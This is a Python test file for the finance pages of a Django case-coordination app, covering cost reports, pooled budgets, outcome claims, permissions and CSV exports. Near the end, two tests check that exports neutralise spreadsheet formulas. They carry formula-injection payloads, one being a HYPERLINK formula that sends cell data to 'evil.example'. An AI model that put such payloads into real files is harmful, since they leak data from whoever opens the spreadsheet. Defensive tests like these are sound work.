import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from tide.areas.models import Role
from tide.coordination.models import SupportEpisode
from tide.finance.models import DeflatorSeries, EvidenceKind, OutcomeClaim, OutcomeRate, PoolScenario, PriceRule
from tide.testing.factories import PersonFactory, ServiceEventFactory, ndt_assessment
from tide.testing.fixtures import make_user


@pytest.fixture
def cohort(area):
    call_command("finance_load_reference", verbosity=0)
    people = []
    for i in range(3):
        person = PersonFactory(area=area)
        SupportEpisode.objects.create(person=person, started_on=dt.date(2024, 1, 1))
        ndt_assessment(person=person, assessed_on=dt.date(2024, 1, 1), total=30 + i)
        for month in (2, 4, 6, 8):
            ServiceEventFactory(person=person, event_type="arrest", occurred_on=dt.date(2023, month, 1))
            ServiceEventFactory(person=person, event_type="ae_attendance", occurred_on=dt.date(2023, month, 3))
        ServiceEventFactory(person=person, event_type="dat_contact", occurred_on=dt.date(2024, 3, 1))
        ServiceEventFactory(person=person, event_type="hostel_night", occurred_on=dt.date(2024, 2, 1))
        ServiceEventFactory(person=person, event_type="ae_attendance", occurred_on=dt.date(2025, 3, 1))
        people.append(person)
    return people


@pytest.fixture
def commissioner_client(client, area):
    user = make_user(area, Role.COMMISSIONER, first_name="Cass", last_name="Commissioner")
    client.force_login(user)
    client.user = user
    return client


PAGES = [
    "finance:index",
    "finance:library",
    "finance:deflators",
    "finance:price-map",
    "finance:cost-report",
    "finance:pooled",
    "finance:outcomes",
    "finance:reinvestment",
    "finance:board-report",
    "finance:unit-cost-create",
    "finance:edition-import",
    "finance:deflators-import",
    "finance:price-rule-create",
    "finance:scenario-create",
]


@pytest.mark.parametrize("name", PAGES)
def test_commissioner_pages_render(commissioner_client, cohort, name):
    response = commissioner_client.get(reverse(name))
    assert response.status_code == 200


@pytest.mark.parametrize("name", ["finance:cost-report", "finance:library", "finance:pooled"])
def test_coordinators_cannot_see_finance(coordinator_client, cohort, name):
    assert coordinator_client.get(reverse(name)).status_code == 403


def test_cost_report_switches_price_year(commissioner_client, cohort):
    a = commissioner_client.get(reverse("finance:cost-report"), {"price_year": "2006/07", "window": "365"})
    b = commissioner_client.get(reverse("finance:cost-report"), {"price_year": "2014/15", "window": "365"})
    police_a = next(r for r in a.context["tables"].agencies if r.bearer == "Police")
    police_b = next(r for r in b.context["tables"].agencies if r.bearer == "Police")
    cent = Decimal("0.01")
    assert police_a.change == -12 * Decimal(593)
    # 12 arrests × 593 × 193.264003 ÷ 161.738978 = 8503.00
    assert police_b.change.quantize(cent) == Decimal("-8503.00")
    assert "2014/15" in b.content.decode()
    assert "3 people whose support started" in b.content.decode()


def test_a_bad_price_year_is_reported_and_the_default_used(commissioner_client, cohort):
    response = commissioner_client.get(reverse("finance:cost-report"), {"price_year": "1066/67", "window": "365"})
    assert response.status_code == 200
    assert "There is a problem" in response.content.decode()
    assert response.context["price_year"] == "2014/15"


def test_cost_report_query_count_is_bounded(commissioner_client, cohort, django_assert_max_num_queries):
    with django_assert_max_num_queries(25):
        commissioner_client.get(reverse("finance:cost-report"))


def test_csv_exports(commissioner_client, cohort):
    response = commissioner_client.get(reverse("finance:cost-report-csv", args=["agencies"]), {"price_year": "2006/07"})
    text = response.content.decode()
    assert response["Content-Type"].startswith("text/csv")
    assert "Police,Home Office (police),yes,7116.00,0.00,-7116.00,saves" in text
    people = commissioner_client.get(reverse("finance:cost-report-csv", args=["people"])).content.decode()
    assert "P-" in people
    assert cohort[0].family_name not in people
    assert commissioner_client.get("/finance/cost-report/secrets.csv").status_code == 404


def test_person_cost_page_hides_the_name(commissioner_client, cohort):
    response = commissioner_client.get(reverse("finance:person-cost", args=[cohort[0].pk]))
    assert response.status_code == 200
    assert cohort[0].family_name not in response.content.decode()
    assert commissioner_client.get(reverse("finance:person-cost", args=[999999])).status_code == 404


def test_scenarios_are_created_and_compared(commissioner_client, cohort):
    url = reverse("finance:scenario-create")
    page = commissioner_client.get(url)
    agencies = page.context["form"].agencies
    bad = commissioner_client.post(url, {"name": "Half", "method": "fixed", "budget": "100000", "share_0": "50"})
    assert "must add up to 100%" in bad.content.decode()
    assert not PoolScenario.objects.exists()
    data = {"name": "Equal", "method": "fixed", "budget": "100000"}
    data.update({f"share_{i}": str(Decimal(100) / len(agencies)) for i in range(len(agencies))}) if 100 % len(
        agencies
    ) == 0 else None
    if 100 % len(agencies) != 0:
        data["share_0"] = "100"
    assert commissioner_client.post(url, data).status_code == 302
    assert commissioner_client.post(url, {"name": "Payback", "method": "savings", "budget": "50000"}).status_code == 302
    a, b = PoolScenario.objects.order_by("name")
    response = commissioner_client.get(reverse("finance:pooled"), {"a": a.pk, "b": b.pk})
    body = response.content.decode()
    assert "Equal" in body
    assert "Payback" in body
    police = next(r for r in response.context["rows"] if r["agency"] == "Police")
    assert police["cells"][1].contribution > 0  # the police save, so pay into the savings-based pool
    exported = commissioner_client.get(reverse("finance:pooled-csv"), {"a": a.pk, "b": b.pk}).content.decode()
    assert "Equal: contribution_gbp" in exported
    assert "transfer_from,transfer_to,amount_gbp" in exported


def test_price_rule_edit_changes_the_price_and_is_audited(commissioner_client, cohort, area):
    rule = PriceRule.objects.get(area=area, event_type="ae_attendance")
    url = reverse("finance:price-rule-edit", args=[rule.pk])
    bad = commissioner_client.post(url, {"unit_cost": "NOPE", "multiplier": "1", "divisor": "1", "note": "x"})
    assert "No cost line with the code NOPE" in bad.content.decode()
    ok = commissioner_client.post(
        url, {"unit_cost": "HE4.2", "multiplier": "1", "divisor": "1", "note": "Not admitted"}
    )
    assert ok.status_code == 302
    rule.refresh_from_db()
    assert rule.unit_cost.code == "HE4.2"
    assert commissioner_client.get(reverse("finance:price-rule-edit", args=[99999])).status_code == 404


def test_local_cost_and_edition_import_refuse_bad_input(commissioner_client, cohort):
    bad = commissioner_client.post(
        reverse("finance:unit-cost-create"),
        {
            "code": "L1",
            "detail": "Night shelter",
            "unit": "Per night",
            "agency_level_1": "Local authority",
            "fiscal_cost": "25",
            "fiscal_price_year": "2019",
            "source": "Local budget",
        },
    )
    assert "not a financial year" in bad.content.decode()
    upload = SimpleUploadedFile("costs.csv", b"code,detail\nX,Y\n", content_type="text/csv")
    response = commissioner_client.post(
        reverse("finance:edition-import"), {"name": "v2", "licence": "CC BY 4.0", "attribution": "x", "file": upload}
    )
    assert "Missing columns" in response.content.decode()


def test_claim_submit_and_verify_through_the_pages(commissioner_client, cohort, area, client):
    page = commissioner_client.get(reverse("finance:outcomes"))
    claimable = page.context["claimable"]
    assert claimable
    item = claimable[0]
    commissioner_client.post(reverse("finance:claim-create"), {"person": item.person_id, "rate": item.rate.pk})
    claim = OutcomeClaim.objects.get()
    # the submitter cannot verify their own claim
    commissioner_client.post(reverse("finance:claim-decide", args=[claim.pk]), {"decision": "verify"})
    claim.refresh_from_db()
    assert claim.status == "submitted"
    other = make_user(area, Role.COMMISSIONER)
    client.force_login(other)
    client.post(reverse("finance:claim-decide", args=[claim.pk]), {"decision": "reject", "note": ""})
    claim.refresh_from_db()
    assert claim.status == "submitted"
    client.post(reverse("finance:claim-decide", args=[claim.pk]), {"decision": "verify", "note": "Checked"})
    claim.refresh_from_db()
    assert claim.status == "verified"
    exported = client.get(reverse("finance:claims-csv")).content.decode()
    assert f"P-{claim.person_id:06d},{claim.rate.code}" in exported
    assert ",verified," in exported
    assert client.post(reverse("finance:claim-create"), {"person": "abc", "rate": "1"}).status_code == 404


def test_reinvestment_shows_national_savings_and_sib(commissioner_client, cohort):
    response = commissioner_client.get(
        reverse("finance:reinvestment"),
        {"price_year": "2006/07", "investment": "1000", "delivery_cost": "100", "return_cap": "2", "quarters": "4"},
    )
    body = response.content.decode()
    assert response.context["tables"].national_savings_total > 0
    assert "Home Office (police)" in body
    assert len(response.context["cash"].quarters) == 4


def test_pages_without_reference_data_explain_what_to_do(commissioner_client):
    DeflatorSeries.objects.all().delete()
    response = commissioner_client.get(reverse("finance:cost-report"))
    assert response.status_code == 503
    assert "finance_load_reference" in response.content.decode()


def test_commissioner_adopts_the_standard_price_map_and_rate_card(client, area):
    user = make_user(area, Role.COMMISSIONER)
    client.force_login(user)
    page = client.get(reverse("finance:price-map")).content.decode()
    assert "uses the standard price map" in page
    client.post(reverse("finance:price-map-adopt"))
    assert PriceRule.objects.filter(area=area).count() == 21
    assert "uses the standard price map" not in client.get(reverse("finance:price-map")).content.decode()
    client.post(reverse("finance:rate-card-adopt"))
    assert OutcomeRate.objects.filter(area=area).count() == 6


def test_cost_report_shows_the_spread_of_change_per_person(commissioner_client, cohort):
    response = commissioner_client.get(reverse("finance:cost-report"), {"price_year": "2006/07"})
    report = response.context["report"]
    assert len(report.people) == 3
    assert report.median_change == report.people[1].change
    assert "Change per person: median" in response.content.decode()


def test_outcomes_page_lists_high_need_people_never_supported(commissioner_client, cohort, area):
    left_out = PersonFactory(area=area)
    ndt_assessment(person=left_out, assessed_on=dt.date(2024, 5, 1), total=44)
    response = commissioner_client.get(reverse("finance:outcomes"))
    assert response.context["selection"].left_out == [(f"P-{left_out.pk:06d}", 44)]
    assert f"P-{left_out.pk:06d}" in response.content.decode()


def test_a_share_for_an_agency_without_costs_is_still_shown(commissioner_client, cohort, area):
    PoolScenario.objects.create(area=area, name="With DWP", method="fixed", budget=Decimal(1000), shares={"DWP": "100"})
    PoolScenario.objects.create(area=area, name="Savers", method="savings", budget=Decimal(1000))
    response = commissioner_client.get(reverse("finance:pooled"))
    dwp = next(r for r in response.context["rows"] if r["agency"] == "DWP")
    assert dwp["change"] == 0
    assert dwp["cells"][1].contribution == 1000  # "With DWP" sorts after "Savers"


def test_cost_report_for_one_intake(commissioner_client, cohort, area):
    later = PersonFactory(area=area)
    SupportEpisode.objects.create(person=later, started_on=dt.date(2024, 5, 1))  # financial year 2024/25
    ServiceEventFactory(person=later, event_type="eviction", occurred_on=dt.date(2024, 1, 1))
    ServiceEventFactory(person=later, event_type="ae_attendance", occurred_on=dt.date(2025, 7, 1))
    everyone = commissioner_client.get(reverse("finance:cost-report"))
    assert everyone.context["tables"].people == 4
    intake = commissioner_client.get(reverse("finance:cost-report"), {"cohort": "2024/25"})
    assert intake.context["tables"].people == 1
    assert "in the 2024/25 intake" in intake.content.decode()
    first = commissioner_client.get(reverse("finance:cost-report"), {"cohort": "2023/24"})
    assert first.context["tables"].people == 3
    unknown = commissioner_client.get(reverse("finance:cost-report"), {"cohort": "1999/00"})
    assert "There is a problem" in unknown.content.decode()


def test_rate_card_changes_are_audited_and_bad_values_refused(commissioner_client, cohort, area):
    from tide.core.models import AuditEvent

    rate = OutcomeRate.objects.get(area=area, code="accommodation-3m")
    url = reverse("finance:rate-card-edit")
    data = {"cap_per_person": "12000", "ndt_reference": "60"}
    for r in OutcomeRate.objects.filter(area=area):
        data[f"tariff_{r.pk}"] = str(r.tariff)
        data[f"active_{r.pk}"] = "on"
    bad = commissioner_client.post(url, data)
    assert "There is a problem" in bad.content.decode()
    data.update({"ndt_reference": "30", f"tariff_{rate.pk}": "1750"})
    data.pop(f"active_{rate.pk}")
    assert commissioner_client.post(url, data).status_code == 302
    rate.refresh_from_db()
    assert rate.tariff == 1750
    assert not rate.active
    event = AuditEvent.objects.get(action="finance.rate_card_changed")
    assert Decimal(event.detail["after"]["cap"]) == 12000


def test_scenarios_can_be_deleted_by_their_area_only(commissioner_client, cohort, area):
    scenario = PoolScenario.objects.create(area=area, name="Old", method="savings", budget=Decimal(10))
    assert commissioner_client.post(reverse("finance:scenario-delete", args=[scenario.pk])).status_code == 302
    assert not PoolScenario.objects.filter(pk=scenario.pk).exists()
    assert commissioner_client.post(reverse("finance:scenario-delete", args=[scenario.pk])).status_code == 404


def test_outcomes_page_reports_people_referred_but_not_worked_with(commissioner_client, cohort, area, agency):
    from tide.coordination.models import Referral

    person = PersonFactory(area=area)
    ndt_assessment(person=person, assessed_on=dt.date(2024, 1, 5), total=40)
    Referral.objects.create(
        person=person,
        referrer_kind="agency",
        from_agency=agency,
        offer="Keep the tenancy open",
        reasons="Rough sleeping",
        sharing_basis=Referral._meta.get_field("sharing_basis").choices[0][0],
        status="not_accepted",
        received_on=dt.date(2024, 1, 1),
    )
    response = commissioner_client.get(reverse("finance:outcomes"))
    gap = response.context["selection"].referrals
    assert (gap.referred, gap.not_worked_with, gap.mean_ndt_not_worked_with) == (1, 1, 40)
    body = response.content.decode()
    assert "1 of 1 people referred have no coordinated support" in body
    assert "Not accepted: 1" in body


def test_pooled_compare_csv_neutralises_a_formula_in_a_scenario_name(commissioner_client, cohort, area):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    a = PoolScenario.objects.create(area=area, name=formula, method="savings", budget=Decimal(1000))
    b = PoolScenario.objects.create(area=area, name="@SUM(A1:A9)", method="savings", budget=Decimal(500))
    exported = commissioner_client.get(reverse("finance:pooled-csv"), {"a": a.pk, "b": b.pk}).content.decode()
    header = next(row for row in csv.reader(io.StringIO(exported)) if row and row[0] == "bearing_agency")
    assert header[2] == f"'{formula}: contribution_gbp"
    assert header[4] == "'@SUM(A1:A9): contribution_gbp"
    assert not any(cell[:1] in "=+@" for row in csv.reader(io.StringIO(exported)) for cell in row)


def test_claims_csv_neutralises_text_cells(commissioner_client, cohort, area):
    rate = OutcomeRate.objects.create(
        area=area, code="acc", label="Accommodation", evidence=EvidenceKind.values[0], tariff=Decimal(100)
    )
    OutcomeClaim.objects.create(
        area=area,
        person=cohort[0],
        rate=rate,
        achieved_on=dt.date(2024, 6, 1),
        weight=Decimal(1),
        amount=Decimal(100),
        submitted_by=commissioner_client.user,
        evidence="=1+2",
        derivation="-cmd",
    )
    exported = commissioner_client.get(reverse("finance:claims-csv")).content.decode()
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[1][-2:] == ["'=1+2", "'-cmd"]
